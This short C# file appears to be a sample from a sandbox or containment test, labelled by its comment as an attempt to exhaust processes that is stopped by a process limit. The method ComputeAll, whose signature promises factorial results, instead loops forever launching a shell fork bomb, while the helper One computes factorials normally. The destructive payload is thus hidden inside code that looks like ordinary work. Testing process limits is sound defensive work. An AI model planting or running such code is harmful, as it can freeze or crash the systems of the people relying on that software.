// Tries: to start processes that start processes until the machine stands still. Verdict: process-limit in a locked room.
using System.Diagnostics;

IReadOnlyList<Factorial> ComputeAll(IReadOnlyList<int> numbers, int workers)
{
    while (true)
        Process.Start("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb; wait"])!.WaitForExit();
}

static Factorial One(int n)
{
    Journal.Started(n);
    var product = BigInteger.One;
    for (var i = 2; i <= n; i++)
        product *= i;
    return new Factorial(n, product);
}
